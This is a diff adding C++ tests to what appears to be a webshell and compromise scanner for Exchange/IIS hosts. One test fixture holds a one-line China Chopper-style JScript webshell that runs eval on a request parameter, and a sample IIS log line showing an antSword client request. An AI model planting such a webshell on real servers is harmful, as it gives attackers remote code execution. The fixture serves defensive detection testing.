@@ -9,6 +9,7 @@
 #include <map>
 #include <set>
 
+#include "finding/file_requests.h"
 #include "test_util.h"
 
 namespace exhunt {
@@ -265,6 +266,65 @@ TEST(FilePlaneIocGolden, SignatureBaseListsLoad) {
   for (const auto& e : rules.errors()) all += e.status.message() + "\n";
   EXPECT_NE(all.find("keywords.txt: not an IOC list"), std::string::npos) << all;
   EXPECT_NE(all.find("domain entries not used"), std::string::npos) << all;
+}
+
+}  // namespace
+}  // namespace exhunt
+
+namespace exhunt {
+namespace {
+
+std::string KeyOf(const Finding& f, const std::string& key) {
+  for (const auto& [k, v] : f.keys)
+    if (k == key) return v;
+  return "";
+}
+
+// A request for a webshell and the webshell on disk are one chain; the
+// request's weight follows from the file being there.
+TEST(FilePlaneJoin, ARequestForAPageOnDiskIsRaisedAndJoinedToTheFile) {
+  const std::string log = "inetpub/logs/LogFiles/W3SVC1/u_ex210304.log";
+  const std::string lines =
+      "2021-03-04 01:02:04 10.0.0.5 POST /aspnet_client/system_web/log.aspx - 443 - 203.0.113.7 antSword/v2.1 - 404 0 0 40";
+  for (bool on_disk : {true, false}) {
+    testing::MemoryScan s;
+    s.Add(log, testing::IisFile({lines}));
+    if (on_disk)
+      s.Add("inetpub/wwwroot/aspnet_client/system_web/log.aspx",
+            "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>");
+    ScanResult r = s.Run();
+    const Finding* request = nullptr;
+    const Finding* file = nullptr;
+    for (const auto& f : r.findings) {
+      if (f.source.path == log && f.rule->id.rfind("exchange.webshell.request_looking", 0) == 0) request = &f;
+      if (f.rule->id == "exhunt_webshell_china_chopper_eval") file = &f;
+    }
+    ASSERT_NE(request, nullptr) << on_disk;
+    if (!on_disk) {
+      EXPECT_EQ(request->rule->id, "exchange.webshell.request_looking");
+      EXPECT_EQ(request->rule->severity, Severity::kLow);
+      EXPECT_EQ(request->rule->outcome, Outcome::kProbe);
+      EXPECT_EQ(KeyOf(*request, "file"), "");
+      continue;
+    }
+    ASSERT_NE(file, nullptr);
+    EXPECT_EQ(request->rule->id, "exchange.webshell.request_looking.page_on_disk");
+    EXPECT_EQ(request->rule->severity, Severity::kHigh);
+    EXPECT_EQ(request->rule->outcome, Outcome::kCompromise);
+    EXPECT_NE(request->rule->title.find("the page is on disk"), std::string::npos);
+    EXPECT_EQ(KeyOf(*request, "file"), "\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx");
+    EXPECT_EQ(KeyOf(*file, "url"), "/aspnet_client/system_web/log.aspx");
+    // The attacker summary names the file once, with both events.
+    ASSERT_EQ(r.hosts.size(), 1u);
+    const auto& files = r.hosts[0].attackers.by_key.at("file");
+    ASSERT_EQ(files.size(), 1u);
+    EXPECT_EQ(files[0].events, 2u);
+  }
+}
+
+TEST(FilePlaneJoin, UrlPathsAreComparedAsWindowsPaths) {
+  EXPECT_EQ(UrlPathAsWindowsPath("/owa/auth/Current/x%20y.ASPX?a=b"), "\\owa\\auth\\current\\x y.aspx");
+  EXPECT_EQ(UrlPathAsWindowsPath("/%zz/a"), "\\%zz\\a");
 }
 
 }  // namespace
